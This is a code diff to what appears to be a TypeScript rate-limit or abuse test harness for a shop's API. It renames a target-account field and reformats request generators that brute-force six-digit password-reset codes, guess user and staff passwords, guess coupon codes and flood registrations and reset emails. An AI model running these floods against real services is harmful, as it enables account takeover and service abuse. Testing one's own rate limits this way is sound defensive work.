@@ -12,8 +12,8 @@ export interface Target {
   sets: CarSet[];
   cars: { year: number; make: string; model: string }[];
   photos: string[];
-  /** The address of an account. */
-  victim: string;
+  /** The email address of the account that attackers aim at. Shoppers sign in to it, too. */
+  attacked_email: string;
   /** A host that the shop may ask for the certificates of webhooks. */
   certificates: string;
 }
@@ -151,10 +151,12 @@ const FLOODS: readonly Flood[] = [
   flood('wish lists', (n) => post('/api/user/wishList/create', { wishList: { list_name: `List ${n}` } })),
   flood('coupons', (n) => ({ path: `/api/coupon/GUESS${n}`, headers: { temporaryid: 'none' } })),
   flood('registrations', (n) => post('/api/user/register', { email: email(n), password: 'Heron4Civic' })),
-  flood('reset emails', (n, { victim }) => post('/api/user/forget', { email: n % 2 ? email(n) : victim })),
-  flood('reset codes', (n, { victim }) =>
+  flood('reset emails', (n, { attacked_email }) =>
+    post('/api/user/forget', { email: n % 2 ? email(n) : attacked_email }),
+  ),
+  flood('reset codes', (n, { attacked_email }) =>
     post('/api/user/forget/reset', {
-      email: victim,
+      email: attacked_email,
       password: 'Heron4Civic',
       verificationCode: String(n % 1e6).padStart(6, '0'),
     }),
@@ -162,8 +164,8 @@ const FLOODS: readonly Flood[] = [
   flood('messages', (n) =>
     post('/api/user/request', { type: 'Other', email: email(n), title: `Message ${n}`, content: 'text' }),
   ),
-  flood('password guesses', (n, { victim }) =>
-    post('/api/user/login', { email: victim, password: `Guess${n}word` }),
+  flood('password guesses', (n, { attacked_email }) =>
+    post('/api/user/login', { email: attacked_email, password: `Guess${n}word` }),
   ),
   flood('staff password guesses', (n) =>
     post('/api/admin/signin', { email: 'owner@example.com', password: `Guess${n}word` }),
